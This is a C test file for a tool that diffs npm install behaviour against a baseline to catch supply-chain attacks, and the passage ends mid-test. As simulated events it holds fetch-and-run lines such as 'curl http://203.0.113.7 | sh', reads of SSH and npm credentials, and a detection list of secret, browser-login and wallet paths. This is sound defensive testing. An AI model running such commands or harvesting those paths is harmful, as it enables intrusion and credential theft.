/*
 * tests/differ/test_analyze.c - runs against baselines.
 */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "helpers.h"

static fangs_event_list run_a, run_b;
static fangs_deviation_list devs;
static fangs_differ *differ;

static void setup(void)
{
	memset(&run_a, 0, sizeof(run_a));
	memset(&run_b, 0, sizeof(run_b));
	memset(&devs, 0, sizeof(devs));
	ck_assert_int_eq(fangs_differ_new(&differ, NULL), 0);
}

static void teardown(void)
{
	fangs_event_list_free(&run_a);
	fangs_event_list_free(&run_b);
	fangs_deviation_list_free(&devs);
	fangs_differ_free(differ);
}

/* The fingerprints of a first run: what later runs are compared with. */
static fangs_fpset *baseline_of(const fangs_differ *d, const fangs_event_list *run, const char *version)
{
	fangs_fpset *set = NULL;
	fangs_deviation_list none = {0};
	ck_assert_int_eq(fangs_fpset_new(&set), 0);
	ck_assert_int_eq(t_analyze(d, run, NULL, "foo", version, NULL, 0, set, &none), 0);
	ck_assert_uint_eq(none.count, 0);
	return set;
}

static void expect_values(const fangs_deviation_list *l, const char *const *values, size_t n)
{
	for (size_t i = 0; i < n; i++)
		ck_assert_msg(t_find(l, values[i]), "expected a deviation for '%s'", values[i]);
	if (l->count != n) {
		for (size_t i = 0; i < l->count; i++)
			fprintf(stderr, "  got %s %s (%s)\n", l->items[i].kind, l->items[i].value,
				fangs_actor_name(l->items[i].actor));
	}
	ck_assert_uint_eq(l->count, n);
}

/* A flood of new values: 200 findings of a kind, then one that counts the rest;
 * secrets read are never folded into it. */
START_TEST(flood_of_new_values)
{
	fangs_fpset *base;
	const fangs_deviation *more;
	char path[64];
	size_t reads = 0;

	t_open(&run_a, "foo", "/srv/app/index.js", FANGS_OPEN_READ);
	base = baseline_of(differ, &run_a, "1.0.0");
	for (int i = 0; i < 500; i++) {
		snprintf(path, sizeof(path), "/srv/flood/f%d", i);
		t_open(&run_b, "foo", path, FANGS_OPEN_READ);
	}
	t_open(&run_b, "foo", "/root/.ssh/id_rsa", FANGS_OPEN_READ);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	for (size_t i = 0; i < devs.count; i++)
		reads += strcmp(devs.items[i].kind, "fs_new_path_read") == 0;
	ck_assert_uint_eq(reads, 201);
	ck_assert_ptr_nonnull(t_find(&devs, "/srv/flood/f0"));
	ck_assert_ptr_nonnull(t_find(&devs, "/srv/flood/f199"));
	ck_assert_ptr_null(t_find(&devs, "/srv/flood/f200"));
	more = t_find(&devs, "300 more new values, from /srv/flood/f200");
	ck_assert_ptr_nonnull(more);
	ck_assert_str_eq(more->kind, "fs_new_path_read");
	ck_assert_ptr_nonnull(t_find(&devs, "~/.ssh/id_rsa"));
	fangs_fpset_free(base);
}
END_TEST

START_TEST(first_run_seeds)
{
	fangs_fpset *run_fps = NULL, *empty = NULL;
	fangs_event *fork;
	t_open(&run_a, "foo", "/root/.ssh/id_rsa", FANGS_OPEN_READ);
	t_connect(&run_a, "foo", "203.0.113.7", 443, FANGS_PROTO_TCP);
	t_exec(&run_a, "foo", "/bin/sh", "sh", "-c", "curl http://203.0.113.7 | sh", NULL);
	t_open(&run_a, "foo", "/root/.ssh/id_rsa", FANGS_OPEN_READ);
	fork = fangs_event_list_push(&run_a);
	fork->kind = FANGS_EV_PROC_FORK;

	ck_assert_int_eq(fangs_fpset_new(&run_fps), 0);
	ck_assert_int_eq(t_analyze(differ, &run_a, NULL, "foo", "1.0.0", NULL, 0, run_fps, &devs), 0);
	ck_assert_uint_eq(devs.count, 0);
	ck_assert_uint_eq(fangs_fpset_size(run_fps), 3);
	ck_assert(fangs_fpset_contains(run_fps, FANGS_FP_FS_READ, FANGS_ACTOR_SCRIPT, "~/.ssh/id_rsa"));
	ck_assert(fangs_fpset_contains(run_fps, FANGS_FP_NET, FANGS_ACTOR_SCRIPT, "203.0.113.7:443/tcp"));

	/* an empty baseline is a first run too */
	ck_assert_int_eq(fangs_fpset_new(&empty), 0);
	ck_assert_int_eq(t_analyze(differ, &run_a, empty, "foo", "1.0.0", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 0);
	fangs_fpset_free(run_fps);
	fangs_fpset_free(empty);
}
END_TEST

START_TEST(npmrc_by_npm_vs_script)
{
	fangs_fpset *base;
	const fangs_deviation *d;
	fangs_event *thief;

	t_open(&run_a, NULL, "/root/.npmrc", FANGS_OPEN_READ);
	t_open(&run_a, NULL, "/work/package.json", FANGS_OPEN_READ);
	t_exec(&run_a, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
	base = baseline_of(differ, &run_a, "1.0.0");

	t_open(&run_b, NULL, "/root/.npmrc", FANGS_OPEN_READ);
	t_open(&run_b, NULL, "/work/package.json", FANGS_OPEN_READ);
	t_exec(&run_b, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
	thief = t_open(&run_b, "foo", "/root/.npmrc", FANGS_OPEN_READ);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);

	ck_assert_uint_eq(devs.count, 1);
	d = &devs.items[0];
	ck_assert_str_eq(d->kind, "fs_cred_read");
	ck_assert_int_eq(d->severity, FANGS_SEV_CRITICAL);
	ck_assert_str_eq(d->value, "~/.npmrc");
	ck_assert_int_eq(d->actor, FANGS_ACTOR_SCRIPT);
	ck_assert_str_eq(d->run_id, "run-1");
	ck_assert_str_eq(d->package, "foo");
	ck_assert_str_eq(d->origin.package, "foo");
	ck_assert_str_eq(d->origin.script, "postinstall");
	ck_assert_str_eq(d->origin.version, "1.0.0");
	ck_assert_str_eq(d->command, "node install.js");
	ck_assert_uint_eq(d->n_evidence, 1);
	ck_assert_int_eq(d->evidence[0], thief->id);
	ck_assert_int_gt(d->created_ns, 0);
	ck_assert_int_eq(fangs_deviation_list_max_severity(&devs), FANGS_SEV_CRITICAL);
	fangs_fpset_free(base);
}
END_TEST

/* A file is judged by what it is, not by the alias written: the kernel's
 * path of it, and the decoy it is (by inode) whatever its name. */
START_TEST(aliases_of_credentials)
{
	fangs_fpset *base;
	const fangs_deviation *d;
	fangs_event *e;

	/* the baseline reads its own settings file */
	e = t_open(&run_a, "foo", "/root/app/node_modules/foo/settings.json", FANGS_OPEN_READ);
	e->real_path = strdup("/root/app/node_modules/foo/settings.json");
	base = baseline_of(differ, &run_a, "1.0.0");

	/* the same path, now a symlink to ~/.npmrc */
	e = t_open(&run_b, "foo", "/root/app/node_modules/foo/settings.json", FANGS_OPEN_READ);
	e->real_path = strdup("/root/.npmrc");
	/* a hard link: its own name, the decoy's inode */
	e = t_open(&run_b, "foo", "cfg", FANGS_OPEN_READ);
	e->real_path = strdup("/root/app/node_modules/foo/cfg");
	e->decoy = strdup("/root/.ssh/id_rsa");
	/* a relative path whose file is a secret by its real path */
	e = t_open(&run_b, "foo", ".aws/credentials", FANGS_OPEN_READ);
	e->real_path = strdup("/root/.aws/credentials");
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	{
		static const char *const want[] = {"~/.npmrc", "~/.ssh/id_rsa", "~/.aws/credentials"};
		expect_values(&devs, want, 3);
	}
	for (size_t i = 0; i < devs.count; i++) {
		d = &devs.items[i];
		ck_assert_str_eq(d->kind, "fs_cred_read");
		ck_assert_int_eq(d->severity, FANGS_SEV_CRITICAL);
	}
	ck_assert_int_eq(fangs_differ_is_cred_path(differ, "/root/app/node_modules/foo/cfg"), 0);
	fangs_fpset_free(base);
}
END_TEST

/* An event of the import phase (the package being required after the install). */
static fangs_event *in_import(fangs_event *ev)
{
	ev->phase = FANGS_PHASE_IMPORT;
	return ev;
}

/* Reading ~/.npmrc at require time is new even though npm and a script read
 * it during the install; the import's own reads of the package's files and
 * manifests make no fingerprint; what the baseline's import phase did is
 * not new again. */
START_TEST(import_phase_vs_install)
{
	fangs_fpset *base;
	fangs_fingerprint fp;
	const fangs_norm_ctx nctx = {"foo", "1.0.1"};
	fangs_event *ev;

	t_open(&run_a, NULL, "/root/.npmrc", FANGS_OPEN_READ);
	t_open(&run_a, "foo", "/root/.npmrc", FANGS_OPEN_READ);
	in_import(t_exec(&run_a, NULL, "/usr/bin/node", "node", "-e", "/*fangs:import*/require(x)", "foo", NULL));
	in_import(t_open(&run_a, NULL, "/root/app/node_modules/foo/index.js", FANGS_OPEN_READ));
	in_import(t_open(&run_a, NULL, "/etc/hosts", FANGS_OPEN_READ));
	base = baseline_of(differ, &run_a, "1.0.0");
	ck_assert(fangs_fpset_contains(base, FANGS_FP_FS_READ, FANGS_ACTOR_IMPORT, "/etc/hosts"));
	ck_assert(fangs_fpset_contains(base, FANGS_FP_FS_READ, FANGS_ACTOR_SCRIPT, "~/.npmrc"));
	ck_assert(!fangs_fpset_contains(base, FANGS_FP_FS_READ, FANGS_ACTOR_IMPORT, "~/.npmrc"));

	t_open(&run_b, NULL, "/root/.npmrc", FANGS_OPEN_READ);
	t_open(&run_b, "foo", "/root/.npmrc", FANGS_OPEN_READ);
	in_import(t_exec(&run_b, NULL, "/usr/bin/node", "node", "-e", "/*fangs:import*/require(x)", "foo", NULL));
	in_import(t_open(&run_b, NULL, "/root/app/node_modules/foo/index.js", FANGS_OPEN_READ));
	in_import(t_open(&run_b, NULL, "/root/app/node_modules/foo/lib/new-file.js", FANGS_OPEN_READ));
	in_import(t_open(&run_b, NULL, "/root/app/node_modules/bar/package.json", FANGS_OPEN_READ));
	in_import(t_open(&run_b, NULL, "/root/package.json", FANGS_OPEN_READ));
	in_import(t_open(&run_b, NULL, "/etc/hosts", FANGS_OPEN_READ));
	ev = in_import(t_open(&run_b, "foo", "/root/.npmrc", FANGS_OPEN_READ));
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 1);
	ck_assert_str_eq(devs.items[0].kind, "fs_cred_read");
	ck_assert_str_eq(devs.items[0].value, "~/.npmrc");
	ck_assert_int_eq(devs.items[0].actor, FANGS_ACTOR_IMPORT);
	ck_assert_int_eq(devs.items[0].evidence[0], ev->id);
	ck_assert_str_eq(fangs_actor_name(devs.items[0].actor), "import");

	/* a write under node_modules at require time is behaviour, not a read of code */
	ev = in_import(t_open(&run_b, NULL, "/root/app/node_modules/foo/index.js", FANGS_OPEN_WRITE));
	ck_assert_int_eq(fangs_differ_fingerprint(differ, &nctx, ev, &fp), 1);
	ck_assert_int_eq(fp.kind, FANGS_FP_FS_WRITE);
	ck_assert_int_eq(fp.actor, FANGS_ACTOR_IMPORT);
	fangs_fingerprint_clear(&fp);
	/* the same read in the install phase is a fingerprint as before */
	ev = t_open(&run_b, NULL, "/root/app/node_modules/foo/index.js", FANGS_OPEN_READ);
	ck_assert_int_eq(fangs_differ_fingerprint(differ, &nctx, ev, &fp), 1);
	ck_assert_int_eq(fp.actor, FANGS_ACTOR_NPM);
	fangs_fingerprint_clear(&fp);
	fangs_fpset_free(base);
}
END_TEST

/* A baseline made with no import phase (older runs, or scan.import off) has
 * nothing to compare the phase with: it is not diffed, as a first run is not. */
START_TEST(import_phase_without_baseline_import)
{
	fangs_fpset *base;
	t_open(&run_a, NULL, "/etc/hosts", FANGS_OPEN_READ);
	base = baseline_of(differ, &run_a, "1.0.0");
	t_open(&run_b, NULL, "/etc/hosts", FANGS_OPEN_READ);
	in_import(t_exec(&run_b, NULL, "/usr/bin/node", "node", "-e", "/*fangs:import*/require(x)", "foo", NULL));
	in_import(t_open(&run_b, NULL, "/usr/lib/x86_64-linux-gnu/libstdc++.so.6", FANGS_OPEN_READ));
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 0);
	/* the install phase is still compared */
	t_open(&run_b, "foo", "/etc/passwd", FANGS_OPEN_READ);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 1);
	ck_assert_int_eq(devs.items[0].actor, FANGS_ACTOR_SCRIPT);
	fangs_fpset_free(base);
}
END_TEST

START_TEST(npm_reads_new_file)
{
	fangs_fpset *base;
	t_open(&run_a, NULL, "/etc/hosts", FANGS_OPEN_READ);
	base = baseline_of(differ, &run_a, "1.0.0");
	/* the same file read by a script is a new fingerprint; npm's own read is not */
	t_open(&run_b, NULL, "/etc/hosts", FANGS_OPEN_READ);
	t_open(&run_b, "foo", "/etc/hosts", FANGS_OPEN_READ);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 1);
	ck_assert_str_eq(devs.items[0].kind, "fs_new_path_read");
	ck_assert_int_eq(devs.items[0].severity, FANGS_SEV_LOW);
	ck_assert_int_eq(devs.items[0].actor, FANGS_ACTOR_SCRIPT);
	fangs_fpset_free(base);
}
END_TEST

/* A new program's libraries and locale data, and a new lookup's resolver
 * files, are folded into the new exec / DNS finding of the same process. */
START_TEST(loader_and_resolver_reads_fold)
{
	static const char *const want[] = {"/usr/bin/curl", "evil.example",  "/usr/lib/x86_64-linux-gnu/libfoo.so.1",
					   "/etc/hosts",    "~/.ssh/id_rsa", "/usr/bin/node"};
	fangs_fpset *base;
	t_open(&run_a, NULL, "/usr/share/nodejs/npm/package.json", FANGS_OPEN_READ);
	base = baseline_of(differ, &run_a, "1.0.0");
	t_exec(&run_b, "foo", "/usr/bin/curl", "curl", "-s", "http://evil.example/x", NULL)->pid = 777;
	t_open(&run_b, "foo", "/etc/ld.so.cache", FANGS_OPEN_READ)->pid = 777;
	t_open(&run_b, "foo", "/usr/lib/x86_64-linux-gnu/libcurl.so.4", FANGS_OPEN_READ)->pid = 777;
	t_open(&run_b, "foo", "/usr/lib/locale/C.utf8/LC_CTYPE", FANGS_OPEN_READ)->pid = 777;
	t_open(&run_b, "foo", "/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.cache", FANGS_OPEN_READ)->pid = 777;
	t_open(&run_b, "foo", "/usr/lib/ssl/openssl.cnf", FANGS_OPEN_READ)->pid = 777;
	t_dns(&run_b, "foo", "evil.example")->pid = 777;
	t_open(&run_b, "foo", "/etc/resolv.conf", FANGS_OPEN_READ)->pid = 777;
	/* another process with nothing new of its own: its reads stand */
	t_open(&run_b, "foo", "/usr/lib/x86_64-linux-gnu/libfoo.so.1", FANGS_OPEN_READ)->pid = 888;
	t_open(&run_b, "foo", "/etc/hosts", FANGS_OPEN_READ)->pid = 888;
	/* a program reading its own binary (node does) is no news either */
	t_exec(&run_b, "foo", "/usr/bin/node", "node", "build.js", NULL)->pid = 999;
	t_open(&run_b, "foo", "/usr/bin/node", FANGS_OPEN_READ)->pid = 999;
	/* secrets are never folded, whoever reads them */
	t_open(&run_b, "foo", "/root/.ssh/id_rsa", FANGS_OPEN_READ)->pid = 777;
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	expect_values(&devs, want, sizeof(want) / sizeof(want[0]));
	fangs_fpset_free(base);
}
END_TEST

START_TEST(sh_c_new_command_line)
{
	fangs_fpset *base;
	const fangs_deviation *d;
	t_exec(&run_a, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
	t_exec(&run_a, "foo", "/usr/bin/node", "node", "install.js", NULL);
	base = baseline_of(differ, &run_a, "1.0.0");
	ck_assert(fangs_fpset_contains(base, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/bin/sh -c node install.js"));

	t_exec(&run_b, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
	t_exec(&run_b, "foo", "/usr/bin/node", "node", "install.js", NULL);
	t_exec(&run_b, "foo", "/bin/sh", "sh", "-c", "curl -s http://203.0.113.7/x.sh | sh", NULL);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 1);
	d = &devs.items[0];
	ck_assert_str_eq(d->kind, "proc_new_exec");
	ck_assert_int_eq(d->severity, FANGS_SEV_MEDIUM);
	ck_assert_str_eq(d->value, "/bin/sh -c curl -s http://203.0.113.7/x.sh | sh");
	ck_assert_str_eq(d->command, "sh -c curl -s http://203.0.113.7/x.sh | sh");
	ck_assert_str_eq(d->origin.command, "node install.js");
	fangs_fpset_free(base);
}
END_TEST

/* One install of foo@<version>: what npm and foo's install script do, with
 * every kind of run-to-run noise drawn from `seed`. */
static void install_run(fangs_event_list *l, const char *version, int seed)
{
	char p[512];
	static const char *const logs[] = {"2024-05-01T10_22_33_123Z-debug-0.log",
					   "2025-01-15T08_03_12_345Z-debug-0.log"};
	static const char *const tmps[] = {"AbC123", "q9XyZ0"};
	static const char *const hashes[] = {"3f2a9b1c", "0e1d2c3b"};
	int s = seed & 1;

	t_open(l, NULL, "/root/.npmrc", FANGS_OPEN_READ);
	snprintf(p, sizeof(p), "/root/.npm/_logs/%s", logs[s]);
	t_open(l, NULL, p, FANGS_OPEN_WRITE);
	snprintf(p, sizeof(p),
		 "/root/.npm/_cacache/index-v5/%s/%s/%s9e0a8f3f4c55b6c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8",
		 s ? "b1" : "7f", s ? "3c" : "00", hashes[s]);
	t_open(l, NULL, p, FANGS_OPEN_READ);
	snprintf(p, sizeof(p), "/root/.npm/_cacache/content-v2/sha512/%s/%s/%sabcdef0123456789", s ? "0e" : "a4",
		 s ? "9f" : "51", hashes[s]);
	t_open(l, NULL, p, FANGS_OPEN_READ);
	snprintf(p, sizeof(p), "/root/.npm/_cacache/tmp/%s", hashes[s]);
	t_open(l, NULL, p, FANGS_OPEN_WRITE);
	snprintf(p, sizeof(p), "/proc/%d/status", 3100 + seed * 17);
	t_open(l, NULL, p, FANGS_OPEN_READ);
	t_open(l, NULL, "/proc/self/maps", FANGS_OPEN_READ);
	snprintf(p, sizeof(p), "/work/node_modules/.foo-%s%s/package.json", tmps[s], s ? "Kx" : "Lm");
	t_open(l, NULL, p, FANGS_OPEN_WRITE);
	t_open(l, NULL, "/work/node_modules/.package-lock.json", FANGS_OPEN_WRITE);
	snprintf(p, sizeof(p), "/work/node_modules/.package-lock.json.%d", 1000000 + seed * 7919);
	t_open(l, NULL, p, FANGS_OPEN_WRITE);
	t_exec(l, "foo", "/bin/sh", "sh", "-c", "node scripts/install.js", NULL);
	t_exec(l, "foo", "/usr/bin/node", "node", "scripts/install.js", NULL);
	snprintf(p, sizeof(p), "/tmp/node-gyp-tmp-%s/node-v20.11.1/include/node/node.h", tmps[s]);
	t_open(l, "foo", p, FANGS_OPEN_WRITE);
	snprintf(p, sizeof(p), "/tmp/cc%s.s", tmps[s]);
	t_open(l, "foo", p, FANGS_OPEN_WRITE);
	snprintf(p, sizeof(p), "/root/.cache/foo/v%s/foo-v%s-linux-x64.tar.gz", version, version);
	t_open(l, "foo", p, FANGS_OPEN_WRITE);
	snprintf(p, sizeof(p), "/work/node_modules/foo/build/stamp-%d", 1714558953 + seed * 3600);
	t_open(l, "foo", p, FANGS_OPEN_WRITE);
	snprintf(p, sizeof(p), "cp /tmp/tmp-%d%s/foo-%s.node build/", 4200 + seed, tmps[s], version);
	t_exec(l, "foo", "/bin/sh", "sh", "-c", p, NULL);
	t_connect(l, "foo", s ? "::ffff:198.51.100.20" : "198.51.100.20", 443, FANGS_PROTO_TCP);
	t_dns(l, "foo", s ? "Downloads.Example." : "downloads.example");
	t_sni(l, "foo", s ? "DOWNLOADS.example" : "downloads.example");
}

START_TEST(noise_only_run)
{
	fangs_fpset *base;
	install_run(&run_a, "1.4.2", 0);
	base = baseline_of(differ, &run_a, "1.4.2");
	install_run(&run_b, "1.5.0", 1);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.5.0", NULL, 0, NULL, &devs), 0);
	expect_values(&devs, NULL, 0);

	/* and something real on top of the noise still shows */
	t_dns(&run_b, "foo", "exfil.example");
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.5.0", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 1);
	ck_assert_str_eq(devs.items[0].value, "exfil.example");
	fangs_fpset_free(base);
}
END_TEST

static fangs_fpset *nonempty_baseline(void)
{
	fangs_fpset *base = NULL;
	ck_assert_int_eq(fangs_fpset_new(&base), 0);
	ck_assert_int_eq(fangs_fpset_add(base, FANGS_FP_FS_READ, FANGS_ACTOR_NPM, "/work/package.json"), 1);
	return base;
}

START_TEST(allowlists)
{
	fangs_config cfg;
	fangs_differ *d = NULL;
	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
	fangs_allow_list per_pkg = {0};
	fangs_fpset *base = nonempty_baseline();
	fangs_event *ev;
	static const char *const expected[] = {
		"/usr/share/zoneinfo-evil/x", "/usr/share/zoneinfo/x", "11.0.0.1:443/tcp", "[2001:db9::1]:443/tcp",
		"evil.registry.example",      "badexample.org",        "example.org",      "registry.example",
		"/usr/bin/git-lfs",           "evil.example",          "/opt/bar/x",
	};

	memset(&cfg, 0, sizeof(cfg));
	cfg.builtin_cred_paths = 1;
	/* global entries, from the configuration */
	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_PATH, "/usr/share/zoneinfo/", NULL, NULL), 0);
	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_CIDR, "10.0.0.0/8", NULL, NULL), 0);
	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_SNI, "registry.example", NULL, NULL), 0);
	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_EXEC, "/usr/bin/git", NULL, NULL), 0);
	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_PATH, "/opt/foo/", "foo", NULL), 0);
	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_PATH, "/opt/bar/", "bar", NULL), 0);
	/* an invalid entry is skipped, not fatal */
	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_CIDR, "10.0.0.0/99", NULL, NULL), 0);
	opts.config = &cfg;
	ck_assert_int_eq(fangs_differ_new(&d, &opts), 0);
	/* per-package entries, given with the run */
	ck_assert_int_eq(fangs_allow_list_add(&per_pkg, FANGS_ALLOW_DNS, "Example.ORG.", "foo", NULL), 0);
	ck_assert_int_eq(fangs_allow_list_add(&per_pkg, FANGS_ALLOW_CIDR, "2001:db8::/32", "foo", NULL), 0);
	ck_assert_int_eq(fangs_allow_list_add(&per_pkg, FANGS_ALLOW_DNS, "evil.example", "other", NULL), 0);
	ck_assert_int_eq(fangs_allow_list_add(&per_pkg, FANGS_ALLOW_PATH, "/etc/hosts", NULL, NULL), 0);

	t_open(&run_b, "foo", "/usr/share/zoneinfo/Europe/Paris", FANGS_OPEN_READ);
	t_open(&run_b, "foo", "/usr/share/zoneinfo/UTC", FANGS_OPEN_WRITE);
	t_open(&run_b, "foo", "/usr/share/zoneinfo-evil/x", FANGS_OPEN_READ);
	t_exec(&run_b, "foo", "/usr/share/zoneinfo/x", "x", NULL);
	t_open(&run_b, "foo", "/etc/hosts", FANGS_OPEN_READ);
	t_open(&run_b, "foo", "/opt/foo/data", FANGS_OPEN_READ);
	t_open(&run_b, "foo", "/opt/bar/x", FANGS_OPEN_READ);
	t_connect(&run_b, "foo", "10.1.2.3", 443, FANGS_PROTO_TCP);
	t_connect(&run_b, "foo", "::ffff:10.9.9.9", 80, FANGS_PROTO_TCP);
	t_connect(&run_b, "foo", "11.0.0.1", 443, FANGS_PROTO_TCP);
	t_connect(&run_b, "foo", "2001:db8:1::5", 443, FANGS_PROTO_TCP);
	t_connect(&run_b, "foo", "2001:db9::1", 443, FANGS_PROTO_TCP);
	t_sni(&run_b, "foo", "REGISTRY.example");
	t_sni(&run_b, "foo", "evil.registry.example");
	t_dns(&run_b, "foo", "cdn.example.org");
	t_dns(&run_b, "foo", "example.org");
	t_dns(&run_b, "foo", "badexample.org");
	t_sni(&run_b, "foo", "example.org");
	t_dns(&run_b, "foo", "registry.example");
	t_exec(&run_b, "foo", "/usr/bin/git", "git", "fetch", NULL);
	t_exec(&run_b, "foo", "/usr/bin/git-lfs", "git-lfs", "pull", NULL);
	t_dns(&run_b, "foo", "evil.example");
	/* the allowed binary also covers it through another spelling of its path */
	ev = t_exec(&run_b, "foo", "/usr/bin/../bin/git", "git", "status", NULL);
	(void)ev;

	ck_assert_int_eq(t_analyze(d, &run_b, base, "foo", "1.0.1", per_pkg.items, per_pkg.count, NULL, &devs), 0);
	expect_values(&devs, expected, sizeof(expected) / sizeof(expected[0]));
	ck_assert_str_eq(t_find(&devs, "example.org")->kind, "net_new_https_host");
	ck_assert_str_eq(t_find(&devs, "registry.example")->kind, "net_new_dns");
	ck_assert_str_eq(t_find(&devs, "/usr/share/zoneinfo/x")->kind, "proc_new_exec");

	/* the same run without any allowlist deviates on everything new */
	fangs_deviation_list_free(&devs);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, run_b.count - 1); /* git and ../bin/git are one fingerprint */

	fangs_differ_free(d);
	fangs_allow_list_free(&per_pkg);
	fangs_allow_list_free(&cfg.allow);
	fangs_fpset_free(base);
}
END_TEST

START_TEST(severity_overrides)
{
	fangs_config cfg;
	fangs_severity_override ov[] = {
		{(char *)"proc_new_exec", NULL, FANGS_SEV_HIGH},
		{(char *)"net_new_dns", (char *)"left-pad", FANGS_SEV_LOW},
		{(char *)"net_new_dns", NULL, FANGS_SEV_HIGH},
		{(char *)"fs_cred_read", (char *)"other", FANGS_SEV_INFO},
	};
	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
	fangs_differ *d = NULL;
	fangs_fpset *base = nonempty_baseline();

	memset(&cfg, 0, sizeof(cfg));
	cfg.builtin_cred_paths = 1;
	cfg.severity = ov;
	cfg.n_severity = sizeof(ov) / sizeof(ov[0]);
	opts.config = &cfg;
	ck_assert_int_eq(fangs_differ_new(&d, &opts), 0);

	t_dns(&run_b, "left-pad", "stats.example");
	t_exec(&run_b, "left-pad", "/usr/bin/curl", "curl", NULL);
	t_open(&run_b, "left-pad", "/root/.aws/credentials", FANGS_OPEN_READ);
	t_open(&run_b, "left-pad", "/etc/os-release", FANGS_OPEN_READ);

	ck_assert_int_eq(t_analyze(d, &run_b, base, "left-pad", "1.3.0", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 4);
	ck_assert_int_eq(t_find(&devs, "stats.example")->severity, FANGS_SEV_LOW);           /* package */
	ck_assert_int_eq(t_find(&devs, "/usr/bin/curl")->severity, FANGS_SEV_HIGH);          /* global */
	ck_assert_int_eq(t_find(&devs, "~/.aws/credentials")->severity, FANGS_SEV_CRITICAL); /* default */
	ck_assert_int_eq(t_find(&devs, "/etc/os-release")->severity, FANGS_SEV_LOW);         /* default */

	fangs_deviation_list_free(&devs);
	ck_assert_int_eq(t_analyze(d, &run_b, base, "other", "1.3.0", NULL, 0, NULL, &devs), 0);
	ck_assert_int_eq(t_find(&devs, "stats.example")->severity, FANGS_SEV_HIGH);
	ck_assert_int_eq(t_find(&devs, "~/.aws/credentials")->severity, FANGS_SEV_INFO);
	fangs_differ_free(d);
	fangs_fpset_free(base);
}
END_TEST

START_TEST(cred_paths_builtin)
{
	static const char *const creds[] = {
		"/root/.npmrc",
		"/home/x/.npmrc",
		"/home/x/.ssh/id_rsa",
		"/root/.ssh",
		"/root/.ssh/",
		"/home/bob/.aws/credentials",
		"/root/.config/gcloud/application_default_credentials.json",
		"/root/.docker/config.json",
		"/home/x/.git-credentials",
		"/root/.netrc",
		"/work/app/.env",
		"/work/node_modules/foo/.env.local",
		"/etc/shadow",
		"/etc/gshadow",
		"/root/.mozilla/firefox/k3x9.default-release/logins.json",
		"/home/x/.config/google-chrome/Default/Login Data",
		"/home/x/.config/chromium/Default/Cookies",
		"/home/x/.config/BraveSoftware/Brave-Browser/Default/Web Data",
		"/root/.bitcoin/wallet.dat",
		"/home/x/.electrum/wallets/default_wallet",
		"/root/.ethereum/keystore/UTC--2024-05-01T10-22-33.123Z--0123abcd",
		"/home/x/.config/Exodus/exodus.wallet/seed.seco",
		"/home/x/.config/yandex-browser/Default/Local Extension "
		"Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log",
		"/root/.kube/config",
		"/root/.gnupg/private-keys-v1.d/0A1B.key",
		"/home/x/../../root/.ssh/id_ed25519",
	};
	static const char *const not_creds[] = {
		"/root/.npmrc.bak/x/../../.cache",
		"/root/.docker/other.json",
		"/work/app/.envrc",
		"/work/app/env",
		"/etc/passwd",
		"/root/.ethereum/geth/chaindata/000001.ldb",
		"/srv/home/x/.ssh/id_rsa",
		"/home/x/.sshx",
		"/work/node_modules/foo/.npmrc",
		"/root/.kube/cache/discovery",
	};
	for (size_t i = 0; i < sizeof(creds) / sizeof(creds[0]); i++)
		ck_assert_msg(fangs_differ_is_cred_path(differ, creds[i]) == 1, "%s is a credential place", creds[i]);
	for (size_t i = 0; i < sizeof(not_creds) / sizeof(not_creds[0]); i++)
		ck_assert_msg(fangs_differ_is_cred_path(differ, not_creds[i]) == 0, "%s is not a credential place",
			      not_creds[i]);
	ck_assert_int_eq(fangs_differ_is_cred_path(NULL, "/root/.npmrc"), 1);
	ck_assert_int_eq(fangs_differ_is_cred_path(differ, NULL), 0);
}
END_TEST

START_TEST(cred_paths_configured)
{
	fangs_config cfg;
	fangs_watched_path w[] = {
		{(char *)"/opt/secrets/", 1},
